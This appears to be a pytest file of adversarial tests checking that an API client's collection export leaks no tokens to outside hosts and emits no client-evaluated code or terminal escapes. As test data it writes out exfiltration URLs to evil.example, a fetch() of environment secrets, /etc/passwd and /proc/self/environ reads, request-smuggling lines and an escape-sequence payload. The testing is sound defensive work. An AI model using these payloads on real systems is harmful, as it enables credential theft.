"""What an exported request can send elsewhere, and what an export can do to the terminal."""

import hashlib
import json
import re
import zipfile
from collections.abc import Iterator
from itertools import product
from typing import Any

import pytest

from tests.adversarial.machine import INNOCENT, READ, Machine, left_out
from tests.adversarial.test_requests import LURES, Lure, append, quoted
from tests.canaries import SECRET_KEY
from tests.cli.program import Ran
from weda_tui.cli.export import CODE, FORMATS
from weda_tui.core.interchange.export_format import LOAD_FORMATS

REQUEST_FORMATS = [each for each in FORMATS if each != "postman-env"]
HQ = ("--env", "hq")
PLACES = [(), HQ]
SECRETS = (
    "access_token",
    "ACCESS_TOKEN",
    "basic_auth",
    "BASIC_AUTH",
    "SECRET_ID",
    "SECRET_KEY",
    "USERNAME",
    "PASSWORD",
)
ELSEWHERE = [lure for lure in LURES if not lure.url.startswith("{{vars.host}}/")]
"""Lures with another address than the deployment's; the others send their token home."""
REWRITTEN = {"evil-as-user", "backslash"}
"""Lures that are exported without the text before ``@``, and so for the deployment."""
MORE = [
    Lure("key-in-the-query", "<EVIL>/?k={{SECRET_KEY}}"),
    Lure("basic-in-a-header", "<EVIL>/", 'headers = ["X-B: {{basic_auth}}"]\n'),
    Lure("program-name-in-a-header", "<EVIL>/", 'headers = ["X-B: {{ACCESS_TOKEN}}"]\n'),
    Lure("password-in-the-body", "<EVIL>/", 'body = "{{USERNAME}}:{{PASSWORD}}"\n'),
    Lure("spaced-name", "<EVIL>/", 'headers = ["X-B: {{ access_token }}"]\n'),
    Lure(
        "token-in-a-variable",
        "<EVIL>/",
        'headers = ["X-B: {{t}}"]\n[variables]\nt = "{{access_token}}"\n',
    ),
    Lure(
        "name-in-pieces",
        "<EVIL>/",
        'headers = ["X-B: {{access{{u}}token}}"]\n[variables]\nu = "_"\n',
    ),
    Lure(
        "braces-in-pieces",
        "<EVIL>/",
        'headers = ["X-B: {{a}}{{b}}"]\n[variables]\na = "{{acc"\nb = "ess_token}}"\n',
    ),
    Lure(
        "token-in-a-variable-of-the-environment",
        "<EVIL>/",
        'headers = ["X-B: {{t}}"]\n',
        files=(("environments/hq.toml", '[variables]\nt = "{{access_token}}"\n'),),
    ),
    Lure(
        "implied-token",
        "{{vars.host}}@<EVIL-PLACE>/x",
        'endpoint = "workflow.DescribeInstanceApproverList"\n',
    ),
    Lure("host-and-a-variable", "{{vars.host}}{{x}}/", '[variables]\nx = "@<EVIL-PLACE>"\n'),
    Lure("above-the-prefix", "{{vars.host}}/../other-tenant/x"),
    Lure("above-the-prefix-escaped", "{{vars.host}}/%2e%2E/other-tenant/x"),
    Lure("above-the-prefix-backslash", "{{vars.host}}/a\\..\\..\\other-tenant/x"),
]


TOGETHER = [lure for lure in (*ELSEWHERE, *MORE) if not lure.files and lure.name not in REWRITTEN]
"""Lures that do not change each other's export."""
ALONE = [lure for lure in (*ELSEWHERE, *MORE) if lure not in TOGETHER]


def every_export(machine: Machine, name: str = "lure") -> Iterator[tuple[str, Ran]]:
    """Export a collection in each format, and in those with values for an environment as well."""
    yield from machine.exports(REQUEST_FORMATS, name=name)
    yield from machine.exports(CODE, HQ, name=name)


@pytest.mark.parametrize("lure", ALONE, ids=lambda lure: lure.name)
def test_an_export_gives_no_token_to_another_address(machine: Machine, lure: Lure) -> None:
    for name, text in lure.files:
        append(machine, name, text)
    machine.write("collections/lure/zz.toml", lure.text)
    for format_, ran in every_export(machine, "lure/zz"):
        said = f"{lure.name}: {format_}: exit {ran.status}: {ran.text}{ran.talk}"
        is_elsewhere = machine.evil.place in ran.text or "evil" in ran.text
        if format_ in LOAD_FORMATS:  # load tests name the secrets themselves
            assert not is_elsewhere, said
        elif is_elsewhere or lure.name not in REWRITTEN:
            assert [name for name in SECRETS if name in ran.text] == [], said
        assert ran.status in {0, 2}, said


def test_an_exported_collection_gives_no_token_to_another_address(machine: Machine) -> None:
    machine.lay(lure.text for lure in TOGETHER)
    for format_, ran in every_export(machine):
        said = f"{format_}: {ran.text}{ran.talk}"
        assert (ran.status, "/innocent" in ran.text) == (0, True), said
        if format_ in LOAD_FORMATS:  # load tests name the secrets themselves
            assert not any(each in ran.text for each in (machine.evil.place, "evil")), said
        else:
            assert [name for name in SECRETS if name in ran.text] == [], said


SPELT = "http://acceß.test"
"""A host name that IDNA 2003 converts to ``http://access.test``."""
CHAIN = "".join(f'a{n} = "{{{{a{n + 1}}}}}"\n' for n in range(40))
WAYS = {
    "itself": 'url = "<URL>/itself"\n',
    "variable": 'url = "{{a}}/variable"\n[variables]\na = "<URL>"\n',
    "of_folder": 'url = "{{b}}/of_folder"\n',
    "environment": 'url = "{{c}}/environment"\n',
    "env_type": 'url = "{{d}}/env_type"\n',
    "host": 'url = "http://{{e}}/host"\n[variables]\ne = "<NAME>"\n',
    "part": 'url = "{{f}}/part"\n[variables]\nf = "http://{{g}}"\n',
}
"""Requests with a host in each of the places of a workspace that can contain one."""
IN_FOLDER = '[variables]\nb = "<URL>"\n'
IN_ENVIRONMENT = """[variables]
c = "<URL>"
g = "<NAME>"
[env_type_variables.prod]
d = "<URL>"
"""
CHAINS = {
    f"z{40 - first}": f'url = "{{{{a{first}}}}}/z{40 - first}"\n[variables]\n{CHAIN}a40 = "<URL>"\n'
    for first in (35, 29, 28, 18, 5, 0)
}
"""Requests whose host is the value of the last of so many variables."""


@pytest.fixture
def named(machine: Machine) -> Machine:
    """Return a machine whose only deployment is at ``http://access.test``."""
    for name in ("hq", "tls", "corp", "var"):
        machine.environment(name).unlink()
    added = machine.run("env", "add", "hq", "--host", "http://access.test", "--secret-id", "x",
                        stdin="a-key-0123456789\n")  # fmt: skip
    assert added.status == 0, added.talk
    return machine


def spell(machine: Machine, requests: dict[str, str], url: str) -> None:
    """Write requests that send a key to ``url``, and the places in which they find it."""

    def fill(text: str) -> str:
        return text.replace("<URL>", url).replace("<NAME>", url.partition("://")[2])

    more = 'method = "POST"\nheaders = ["X-B: {{my_password}}"]\n'
    for name, lines in requests.items():
        machine.write(f"collections/lure/{name}.toml", more + fill(lines))
    machine.write("collections/lure/folder.toml", fill(IN_FOLDER))
    append(machine, "environments/hq.toml", fill(IN_ENVIRONMENT))


@pytest.mark.parametrize("url", [SPELT, "HTTP://ACCESS.TEST:80"])
def test_what_an_export_sends_home_has_the_address_of_the_deployment(
    named: Machine, url: str
) -> None:
    """However a file spells the address: another program may resolve the same name differently."""
    requests = WAYS | CHAINS
    spell(named, requests, url)
    named.write("collections/lure/a.toml", INNOCENT)
    for format_, ran in every_export(named):
        said = f"{format_}: {ran.text}{ran.talk}"
        assert (ran.status, "/innocent" in ran.text) == (0, True), said
        assert format_ == "postman" or url.partition("://")[2] not in ran.text, said
        written = {name for name in requests if re.search(rf"/{name}\b", ran.text)}
        left = left_out(ran).keys()
        assert (written | left, written & left) == (requests.keys(), set()), said
        if url == SPELT:
            assert written == set(), said
            assert "my_password" not in ran.text.lower(), said


def test_another_spelling_of_the_deployment_is_exported(named: Machine) -> None:
    requests = {name: WAYS[name] for name in ("itself", "variable", "of_folder", "environment")}
    requests["z5"] = CHAINS["z5"]
    spell(named, requests, "HTTP://ACCESS.TEST:80")
    for format_, ran in named.exports(CODE, HQ):
        assert (ran.status, left_out(ran)) == (0, {}), ran.talk
        if format_ in LOAD_FORMATS:
            assert "'http://access.test'" in ran.text.replace('"', "'"), ran.text
        else:
            assert all(f"http://access.test/{name}" in ran.text for name in requests), ran.text


def test_what_was_left_out_is_named_with_its_host(machine: Machine) -> None:
    machine.write("collections/lure/a.toml", 'method = "POST"\nurl = "{{vars.host}}/x"\n')
    machine.write(
        "collections/lure/zz.toml",
        'method = "POST"\nurl = "http://evil.example/?t={{access_token}}"\n'
        'headers = ["X-B: {{basic_auth}}"]\n',
    )
    for format_, ran in machine.exports(REQUEST_FORMATS):
        assert ran.status == 0, ran.talk
        assert b"evil" not in ran.data, format_
        assert "would send access_token, basic_auth to http://evil.example" in ran.talk, format_
        alone = machine.run("export", "lure/zz", "--format", format_, "--lang", "en")
        assert (alone.status, alone.data) == (2, b""), format_
        assert "would send access_token, basic_auth to http://evil.example" in alone.talk


def test_a_collection_sends_no_answer_of_the_deployment_elsewhere(machine: Machine) -> None:
    machine.write(
        "collections/lure/first.toml",
        'endpoint = "auth.clientCredential"\nmethod = "POST"\n'
        'url = "{{vars.host}}/auth/v1/token/clientCredential"\n'
        '[capture]\nTaken = "$.access_token"\n',
    )
    machine.write(
        "collections/lure/zz.toml",
        'method = "POST"\nurl = "http://evil.example/"\nbody = "{{Taken}}"\n'
        'depends = ["lure/first"]\n',
    )
    ran = machine.run("export", "lure", "--format", "postman", "--lang", "en")
    assert b"evil" not in ran.data
    assert "would send Taken to http://evil.example" in ran.talk


KEY = '[variables]\nv = "{{SECRET_KEY}} {{access_token}}"\n'
HOME = 'method = "POST"\nurl = "{{vars.host}}/x"\n'
CARRIED = {
    "set-by-a-request-before": {"collections/lure/first.toml": HOME + KEY},
    "another-name-of-an-answer": {
        "collections/lure/first.toml": HOME + '[variables]\nv = "{{w}}"\n[capture]\nw = "$.a"\n'
    },
    "a-template-from-a-server": {
        "collections/lure/first.toml": 'method = "GET"\nurl = "http://evil.example/v"\n'
        '[capture]\nv = "$.v"\n'
    },
    "pieces-of-a-name": {"collections/lure/first.toml": HOME + '[variables]\nv = "{"\n'},
}


def test_what_an_environment_would_hide_goes_elsewhere_as_a_value(machine: Machine) -> None:
    append(machine, "environments/hq.toml", KEY)
    machine.write("collections/lure/folder.toml", '[variables]\nv = "x-1"\n')
    machine.write("collections/lure/zz.toml", 'method = "POST"\nurl = "<EVIL>/"\nbody = "{{v}}"\n')
    ran = machine.run("export", "lure", "--format", "postman", "--lang", "en")
    (item,) = json.loads(ran.data)["item"]
    assert item["request"]["body"]["raw"] == "x-1"
    assert "{{" not in ran.text


@pytest.mark.parametrize("files", CARRIED.values(), ids=CARRIED)
def test_no_value_of_another_request_is_carried_elsewhere(
    machine: Machine, files: dict[str, str]
) -> None:
    """Postman keeps values that a script has set, and resolves variables inside a value."""
    for name, text in files.items():
        if name.startswith("environments/"):
            append(machine, name, text)
        else:
            machine.write(name, text)
    machine.write(
        "collections/lure/zz.toml",
        'method = "POST"\nurl = "http://evil.example/"\nbody = "{{v}}"\n',
    )
    ran = machine.run("export", "lure", "--format", "postman", "--lang", "en")
    assert "would send v to http://evil.example" in ran.talk
    assert b'http://evil.example/"' not in ran.data


def test_a_value_of_its_own_goes_where_a_request_says(machine: Machine) -> None:
    machine.write(
        "collections/lure/zz.toml",
        'method = "POST"\nurl = "http://other.example/"\nbody = "{{v}}"\n[variables]\nv = "{1}"\n',
    )
    ran = machine.run("export", "lure", "--format", "postman", "--lang", "en")
    assert (ran.status, b"http://other.example" in ran.data) == (0, True), ran.talk


@pytest.mark.parametrize("name", ["vars.host", "WeDa.EnvType", "SECRET_KEY", "access_token"])
def test_a_collection_captures_no_address_and_no_key(machine: Machine, name: str) -> None:
    """Otherwise an attacker's response could become the address of every request that follows."""
    machine.write(
        "collections/lure/zz.toml",
        f'method = "POST"\nurl = "http://evil.example/"\n[capture]\n"{name}" = "$.x"\n',
    )
    ran = machine.run("export", "lure/zz", "--format", "postman", "--lang", "en")
    (item,) = json.loads(ran.data)["item"]
    script = "\n".join(line for e in item.get("event", []) for line in e["script"]["exec"])
    assert name not in script
    assert f"capture {name}" in ran.talk


CONTROLLED = ("x\nY: 1\n\n< /etc/passwd\n###\nGET http://evil.example/", "a\x1b", "a\x00b", "a\rb")


def test_a_header_with_a_control_character_is_refused_as_by_send(machine: Machine) -> None:
    names = machine.lay(
        f'method = "POST"\nurl = "{{{{vars.host}}}}/y"\nheaders = ["X-A: {{{{a{number}}}}}"]\n'
        f"[variables]\na{number} = {quoted(value)}\n"
        for number, value in enumerate(CONTROLLED)
    )
    for format_, ran in machine.exports(REQUEST_FORMATS, *PLACES):
        assert ran.status == 0, ran.talk
        assert b"evil" not in ran.data, format_
        assert b"/y" not in ran.data, format_
        assert left_out(ran) == dict.fromkeys(names, "The header X-A is invalid."), format_


def test_a_header_that_says_where_a_body_ends_is_refused_as_by_send(machine: Machine) -> None:
    headers = (
        *("Transfer_Encoding: chunked", "Content_Length: 0", "Proxy-Connection: {{which}}"),
        "Proxy-Connection: close, content-length",
    )
    names = machine.lay(
        f'method = "POST"\nurl = "{{{{vars.host}}}}/y"\nheaders = ["{header}"]\nbody = "x"\n'
        for header in headers
    )
    reasons = [f"The header {each.partition(':')[0]} is invalid." for each in headers]
    machine.write(
        "collections/lure/f.toml",
        'method = "POST"\nurl = "{{vars.host}}/z"\nbody = "x"\n'
        'headers = ["Content-Length: 1", "Proxy-Connection: keep-alive"]\n',
    )
    for format_, ran in machine.exports(REQUEST_FORMATS, *PLACES):
        assert ran.status == 0, ran.talk
        assert b"/y" not in ran.data, format_
        assert b"/z" in ran.data, format_
        assert left_out(ran) == dict(zip(names, reasons, strict=True)), format_


NASTY = "a\x1b]52;c;YQ==\x07\x9b31m\u202eb\u0085"


def test_an_export_does_nothing_to_a_terminal(machine: Machine) -> None:
    machine.write(
        "collections/lure/zz.toml",
        f'method = "POST"\nurl = "{{{{vars.host}}}}/y"\nbody = {quoted(NASTY)}\n'
        f"[variables]\na = {quoted(NASTY)}\n",
    )
    for format_ in REQUEST_FORMATS:
        words = ("export", "lure/zz", "--format", format_, "--lang", "en")
        shown, piped = machine.run(*words, terminal=True), machine.run(*words)
        assert shown.status == piped.status == 0
        assert not any(each in shown.text for each in "\x1b\x07\x9b\u202e\x85"), format_
        assert ("are removed for the terminal" in shown.talk) == (shown.data != piped.data)
        assert "are removed for the terminal" not in piped.talk
        file = machine.folder / f"out.{format_}"
        machine.run(*words, "-o", str(file), terminal=True)
        moment = rb'"startedDateTime": "[^"]*"'
        assert re.sub(moment, b"", file.read_bytes()) == re.sub(moment, b"", piped.data)


def test_an_export_for_a_route_that_nobody_approved_says_so(machine: Machine) -> None:
    machine.write("collections/lure/a.toml", 'method = "POST"\nurl = "{{vars.host}}/x"\n')
    words = ("export", "lure/a", "--format", "curl", "--env", "hq", "--lang", "en")
    before = machine.run(*words)
    assert before.status == 0
    assert "approved" not in before.talk
    machine.edit("hq", "<HOME>", "<EVIL>")
    after = machine.run(*words)
    assert after.status == 0
    assert "approved" in after.talk
    assert f"127.0.0.1:{machine.evil.port}" in after.talk


FOREIGN = [
    *("$env.AWS_SECRET_ACCESS_KEY", "$processEnv AWS_SECRET_ACCESS_KEY", "$dotenv X", " $env.X "),
    *("vault:prodkey", "process.env.GITHUB_TOKEN", "env.X", "secrets.X", "$aadToken"),
    *("require('fs').readFileSync('/etc/passwd')", "$randomPassword"),
    *("globalThis.process.env.GITHUB_TOKEN", "a.process.env.GITHUB_TOKEN", "this.env.X"),
    "$processEnv AWS_SECRET_ACCESS_KEY }x",
]

FOREIGN_PLACES = [
    f'url = "http://evil.example/{each}'
    for each in (
        *('?a={{NAME}}"\n', '"\nheaders = ["X-A: {{NAME}}"]\n', '"\nbody = "{{NAME}}"\n'),
        '"\nbody = "{{aNR}}"\n[variables]\naNR = "{{NAME}}"\n',
        '"\nbody = "{{aNR}}{{bNR}}"\n[variables]\naNR = "{{NAME"\nbNR = "}}"\n',
    )
]


def test_no_export_holds_a_name_that_other_programs_read(machine: Machine) -> None:
    lures = [*product(FOREIGN_PLACES, FOREIGN)]
    files = machine.lay(
        'method = "POST"\n' + lines.replace("NAME", name).replace("NR", str(number))
        for number, (lines, name) in enumerate(lures)
    )
    for format_, ran in machine.exports(("http", "postman", "har")):
        assert (ran.status, b"evil" in ran.data) == (0, False), format_
        reasons = left_out(ran)
        assert reasons.keys() == {*files}, format_
        for file, (_, name) in zip(files, lures, strict=True):
            assert name.strip() in reasons[file], format_


FILES = [
    *("= fetch('<EVIL>/?k='+process.env.X)", "= x", "=> x", "(x)", "[x]", "`x`", ". x", "/ x /"),
    *("|| x", "&& x", "?? x", ", x", "; x", "+ x", "- x", "* x", "in x", "in(x)", "instanceof x"),
    *("\u2028x", "\u00a0= x", "\u3000= x", "\ufeff= x", ".env", "../x", "/etc/passwd", "a//b"),
    *("/*\u2028*/x", "a/.git/config", "in", "in+x", "== x", "? a : b", "!= x", "< x", "> x"),
    *("% x", "^ x", "++ x", "~x", '"x"', "C:\\x"),
]  # fmt: skip


def test_no_file_of_a_body_is_an_expression(machine: Machine) -> None:
    """httpYac evaluates what stands in braces: ``{{$file = expression}}``."""
    bodies = [each for n in FILES for each in (f"{{{{$file {n}}}}}", f"a {{{{\t$file\t{n} }}}} b")]
    first = 'method = "POST"\nurl = "{{vars.host}}/x-expression"\n'
    files = machine.lay(f"{first}body = {quoted(body)}\n" for body in bodies)
    for format_, ran in machine.exports(REQUEST_FORMATS):
        assert (ran.status, b"x-expression" in ran.data) == (0, False), format_
        reasons = left_out(ran)
        assert reasons.keys() == {*files}, format_
        assert all("$file" in reason for reason in reasons.values())


def test_a_plain_file_of_a_body_is_exported(machine: Machine) -> None:
    names = (
        "up/a.pdf",
        "审批.docx",
        "（终稿）合同.pdf",
        "index.json",
        "inbox/in.txt",
        "_a",
        "1 2.csv",
    )
    lines = (f'body = "{{{{$file {name}}}}}"\n' for name in names)
    machine.lay(('method = "POST"\nurl = "{{vars.host}}/x"\n' + each for each in lines), "")
    for format_, ran in machine.exports(REQUEST_FORMATS):
        assert ran.status == (2 if format_ in {"http", *LOAD_FORMATS} else 0), ran.talk
        assert "not exported" not in ran.talk, format_


EVALUATED = [
    *(
        "{{_brace}}{f()}}",
        "{{_empty}}{{{_empty}}f()}}",
        "{{ [{}, f()]\n}}",
        "{\n{f()}}",
        "{{{a}}f()}}",
    ),
    *("{{a}}{f()}}", "\\{\\{f()}}", "{\u2028{f()}}", "{\ufeff{f()}}", "{{b}}", "{{c}}{f()}}"),
]
"""Texts that httpYac would evaluate, because it parses its own substitutions again."""
RAN = '[variables]\nb = "{{ [{}, f()]\\n}}"\nc = "{"\n'


def test_no_message_holds_what_a_client_evaluates(machine: Machine) -> None:
    lines = [f"body = {quoted(text)}\n" for text in EVALUATED]
    headers = [quoted(f"X-A: {text}".replace("\n", "")) for text in EVALUATED]
    lines += [f"headers = [{header}]\n" for header in headers]
    machine.lay(f'method = "POST"\nurl = "{{{{vars.host}}}}/x"\n{each}{RAN}' for each in lines)
    ran = machine.run("export", "lure", "--format", "http", "--env", "hq", "--lang", "en")
    assert (ran.status, "/innocent" in ran.text) == (0, True), ran.talk
    assert "f()" not in ran.text, ran.text


KNOWN_TO_CLIENTS = [
    *("_1", "_1Response", "_1.access_token", "_1.Response.Data.Comment", "_1.response.body.x"),
    *("response", "request", "request.headers.Authorization", "httpRegion", "process", "global"),
    *("module", "context", "_empty", "_brace", "AWS_SECRET_ACCESS_KEY", "SECRET_ID", "Vars.Host"),
]
"""Names that httpYac resolves to responses, requests and environment variables."""


def test_no_name_of_a_message_is_one_that_a_client_knows(machine: Machine) -> None:
    names = "\n".join(f"[{{{{{name}}}}}]" for name in KNOWN_TO_CLIENTS)
    text = f'method = "POST"\nurl = "{{{{vars.host}}}}/x"\nbody = {quoted(names)}\n'
    machine.write("collections/lure/a.toml", text)
    machine.write("collections/lure/zz.toml", text)
    for _, ran in machine.exports(["http"], *PLACES):
        assert ran.status == 0, ran.talk
        own = {"vars.host", "access_token"}
        assert {*re.findall(r"\{\{(?!WEDA_VAR_)(.*?)\}\}", ran.text)} <= own
        assert ran.text.count("{{WEDA_VAR_") == 2 * len(KNOWN_TO_CLIENTS)


def test_our_own_names_and_files_are_exported(machine: Machine) -> None:
    machine.write(
        "collections/lure/zz.toml",
        'method = "POST"\nurl = "{{vars.host}}/x?t={{$timestamp}}&u={{$uuid}}"\n'
        'body = "{{order.id}} {{WeDa.EnvType}} {{$guid}}"\n',
    )
    for format_, ran in machine.exports(REQUEST_FORMATS, name="lure/zz"):
        assert ran.status == 0, f"{format_}: {ran.talk}"


STEAL = "GET http://evil.example/steal?t={{order}}"


def test_no_line_of_a_body_begins_another_request(machine: Machine) -> None:
    """httpYac needs no separator between requests."""
    lines = [STEAL, f"  {STEAL}", STEAL.replace("GET", "WS"), "gql q < /x"]
    first = 'method = "POST"\nurl = "<HOME>/x-lines"\n'
    files = machine.lay(f"{first}body = {quoted(each)}\n" for each in map("a\n{}\nb".format, lines))
    ran = machine.run("export", "lure", "--format", "http", "--env", "hq", "--lang", "en")
    assert (ran.status, b"x-lines" in ran.data) == (0, False)
    reasons = left_out(ran)
    assert reasons.keys() == {*files}
    assert all(line.strip() in reasons[file] for file, line in zip(files, lines, strict=True))


@pytest.mark.parametrize("name", ["###", "#", "&x", "'x"])
def test_no_header_of_a_message_begins_another_request(machine: Machine, name: str) -> None:
    lines = f'headers = ["{name}: next", "X-A: 1"]\nbody = "{{}}"\n'
    machine.write("collections/lure/zz.toml", f'method = "POST"\nurl = "<HOME>/x"\n{lines}')
    ran = machine.run("export", "lure/zz", "--format", "http", "--env", "hq", "--lang", "en")
    assert f"{name}:" not in ran.text
    assert ran.text.endswith("X-A: 1\n\n{}\n")
    assert name in ran.talk


@pytest.mark.parametrize(
    "lines",
    [
        f'body = "{{}}\\n###\\n{STEAL}"\n',
        f'headers = ["###: next"]\nbody = "{STEAL}"\n',
        f'[[example]]\nname = "e"\nstatus = 200\nbody = "###\\n{STEAL}"\n',
    ],
)
def test_no_block_of_a_document_is_run_as_several_requests(machine: Machine, lines: str) -> None:
    machine.write("collections/lure/zz.toml", f'method = "POST"\nurl = "<HOME>/x"\n{lines}')
    ran = machine.run("export", "lure/zz", "--format", "markdown", "--env", "hq")
    openings = re.findall(r"^```+(\w+)$", ran.text[: ran.text.index(STEAL)], re.MULTILINE)
    assert openings[-1] == "text"


def test_no_method_that_editors_run_is_written(machine: Machine) -> None:
    rest = 'url = "<EVIL>/x"\nbody = "-d @/proc/self/environ"\n'
    methods = ("CURL", "curl", "PURGE")
    files = machine.lay((f'method = "{method}"\n{rest}' for method in methods), "")
    ran = machine.run("export", "lure", "--format", "http", "--env", "hq", "--lang", "en")
    assert (ran.status, ran.data) == (2, b"")
    assert all(file in ran.talk for file in files)


RUNNABLE = "```http\\nGET <EVIL>/?k={{x}}\\n```"


@pytest.mark.parametrize(
    "lines",
    [
        f'description = "{RUNNABLE}"\n',
        'description = "a\\n> ~~~~ REST\\nGET <EVIL>/\\n~~~~"\n',
        f'body = "{RUNNABLE}"\n',
        f'[[example]]\nname = "e"\nbody = "GET <EVIL>/\\n{RUNNABLE}"\n',
    ],
)
def test_a_document_has_no_block_that_editors_run(machine: Machine, lines: str) -> None:
    text = f'method = "POST"\nurl = "{{{{vars.host}}}}/x"\n{lines}'
    machine.write("collections/lure/zz.toml", text)
    ran = machine.run("export", "lure/zz", "--format", "markdown", "--env", "hq")
    assert ran.status == 0, ran.talk
    assert not re.search(r"(?im)^[ >]*[`~]{3,}\s*(http|rest)", ran.text)


def test_no_address_of_another_scheme_is_exported(machine: Machine) -> None:
    urls = (
        'url = "file:///proc/self/environ"\n',
        'url = "{{u}}"\n[variables]\nu = "file:///etc/passwd"\n',
        'url = "gopher://<HOME-PLACE>/_POST"\n',
        'url = "FTP://evil.example/"\n',
    )
    files = machine.lay((f'method = "GET"\n{url}' for url in urls), "")
    for format_, ran in machine.exports(
        (each for each in REQUEST_FORMATS if each != "openapi"), HQ
    ):
        assert (ran.status, ran.data) == (2, b""), ran.talk
        assert all(file in ran.talk for file in files), format_


def test_no_variable_with_the_name_of_a_secret_goes_elsewhere(machine: Machine) -> None:
    names = ("password", "x-api-key", "token", "client_secret", "Access_Token")
    files = machine.lay(f'method = "GET"\nurl = "<EVIL>/?k={{{{{name}}}}}"\n' for name in names)
    for format_, ran in machine.exports(REQUEST_FORMATS, HQ):
        assert (ran.status, machine.evil.place in ran.text) == (0, False), ran.talk
        reasons = left_out(ran)
        assert reasons.keys() == {*files}, format_
        assert all(name in reasons[file] for file, name in zip(files, names, strict=True))


def test_a_request_elsewhere_does_not_move_the_others(machine: Machine) -> None:
    machine.write("collections/lure/a.toml", 'method = "GET"\nurl = "<EVIL>/a"\n')
    machine.write("collections/lure/b.toml", 'method = "GET"\nurl = "{{vars.host}}/b"\n')
    document = json.loads(machine.run("export", "lure", "--format", "openapi").data)
    assert document["servers"] == [{"url": "/"}]
    assert "servers" not in document["paths"]["/b"]["get"]
    assert document["paths"]["/a"]["get"]["servers"] != []


def bundled(machine: Machine, name: str) -> str:
    """Return the text of a file in the support bundle of the first send."""
    path = machine.folder / f"{name}.zip"
    assert machine.run("history", "bundle", "1", "-o", str(path)).status == 0
    with zipfile.ZipFile(path) as archive:
        (found,) = (each for each in archive.namelist() if each.endswith(f"/{name}"))
        return archive.read(found).decode()


def test_a_support_bundle_says_how_tls_was_checked_when_it_was_sent(machine: Machine) -> None:
    assert machine.run("send", READ, "--env", "tls").status == 0
    machine.edit("tls", 'ca_file = "certs/ca.pem"', "verify = false")
    command, place = bundled(machine, "request.sh"), bundled(machine, "environment.json")
    assert "--insecure" not in command
    assert "--cacert certs/ca.pem" in command
    assert (json.loads(place)["verifyTls"], json.loads(place)["hasCaFile"]) == (True, True)


def items_of(folder: dict[str, Any]) -> Iterator[dict[str, Any]]:
    """Yield the requests of a collection."""
    for each in folder["item"]:
        if "item" in each:
            yield from items_of(each)
        else:
            yield each


def test_a_collection_follows_no_answer_and_keeps_no_cookie(machine: Machine) -> None:
    machine.write("collections/basic/probe.toml", 'method = "GET"\nurl = "<EVIL>/status"\n')
    ran = machine.run("export", "basic", "--format", "postman", "--env", "hq")
    items = list(items_of(json.loads(ran.data)))
    assert len(items) == 2
    for each in items:
        behaviour = each["protocolProfileBehavior"]
        assert (behaviour["followRedirects"], behaviour["disableCookies"]) == (False, True)


def test_a_message_follows_no_answer_and_keeps_no_cookie(machine: Machine) -> None:
    machine.write("collections/basic/probe.toml", 'method = "GET"\nurl = "<EVIL>/status"\n')
    text = machine.run("export", "basic", "--format", "http", "--env", "hq").text
    found = re.findall(r"(?m)^# @no-redirect\n# @no-cookie-jar\n(?:GET|POST) http", text)
    assert len(found) == len(re.findall(r"(?m)^(?:GET|POST) http", text)) == 2


def test_no_title_of_a_message_is_a_name_that_an_answer_is_kept_under(machine: Machine) -> None:
    """httpYac stores a response in a variable with the request's name or, without one, title."""
    names = ("vars.host", " vars.host ", "vars", "vars-.host", "access_token")
    machine.lay(f'name = "{name}"\nmethod = "GET"\nurl = "<EVIL>/status"\n' for name in names)
    text = machine.run("export", "lure", "--format", "http").text
    titles = re.findall(r"(?m)^### .*\n(.*)$", text)
    assert titles == [f"# @name _{number}" for number in range(1, 7)]


def test_a_foreign_request_of_a_collection_inherits_no_token(machine: Machine) -> None:
    """Insomnia ignores ``noauth`` of a request, and then uses the authentication of the folder."""
    machine.write("collections/basic/probe.toml", 'method = "GET"\nurl = "<EVIL>/status"\n')
    content = json.loads(machine.run("export", "basic", "--format", "postman", "--env", "hq").data)
    assert content["auth"] == {"type": "noauth"}
    auths = [each["request"].get("auth", {}).get("type") for each in items_of(content)]
    assert sorted(map(str, auths)) == ["None", "bearer"]


def test_no_foreign_request_has_a_template_of_another_program(machine: Machine) -> None:
    bodies = (
        *("{% file '/home/ann/key' %}", "{# note #}", "<<access_token>>"),
        "${[ fs.readFile('/k') ]}",
    )
    lines = (f'method = "POST"\nurl = "<EVIL>/x"\nbody = """{body}"""\n' for body in bodies)
    files = machine.lay(lines, "")
    for format_, ran in machine.exports(REQUEST_FORMATS, HQ):
        assert (ran.status, ran.data) == (2, b""), format_
        assert all(file in ran.talk for file in files), format_


def test_no_message_names_a_client_certificate(machine: Machine) -> None:
    machine.write(
        "collections/basic/probe.toml",
        'method = "GET"\nurl = "<EVIL-S>/x"\n'
        'headers = ["X-ClientCert: cert: ../c.pem key: ../c.pem", "X-B: 1"]\n',
    )
    ran = machine.run("export", "basic/probe", "--format", "http", "--env", "hq")
    assert "X-B: 1" in ran.text
    assert "X-ClientCert:" not in ran.text
    assert "X-ClientCert" in ran.talk


def test_no_program_has_the_digest_of_a_file_that_is_no_certificate(machine: Machine) -> None:
    """The digest of a short file that is easy to guess would confirm a guess of its content."""
    kept = next(machine.state.rglob("secrets.json"))
    digest = hashlib.sha256(kept.read_bytes()).hexdigest()
    machine.edit("tls", "certs/ca.pem", str(kept))
    exports = [("export", "basic", "--format", format_) for format_ in CODE]
    for words in (*exports, ("send", "basic/read", "--json")):
        ran = machine.run(*words, "--env", "tls")
        assert digest[:8] not in ran.text + ran.talk, words


def test_no_program_has_the_text_of_a_file_that_is_no_certificate(machine: Machine) -> None:
    kept = next(machine.state.rglob("secrets.json"))
    machine.edit("tls", "certs/ca.pem", str(kept))
    for format_, ran in machine.exports(LOAD_FORMATS, ("--env", "tls"), name="basic"):
        assert (ran.status != 0, ran.data) == (True, b""), format_
        assert SECRET_KEY not in ran.talk


def test_a_program_has_the_authorities_of_an_approved_route_alone(machine: Machine) -> None:
    """A commit can name any file of this machine as the CA file."""
    words = ("export", "basic", "--format", "locust", "--env", "tls", "--lang", "en")
    own, evil = (each.read_text("ascii") for each in (machine.trust.home_ca, machine.trust.evil_ca))
    assert repr(own) in machine.run(*words).text
    machine.write("certs/other.pem", evil + "# s3cret\n")
    machine.edit("tls", "certs/ca.pem", "certs/other.pem")
    ran = machine.run(*words)
    assert "BEGIN CERTIFICATE" not in ran.text
    assert "ca_file" in ran.talk
    machine.approve("tls")
    ran = machine.run(*words)
    assert repr(evil) in ran.text
    assert "s3cret" not in ran.text
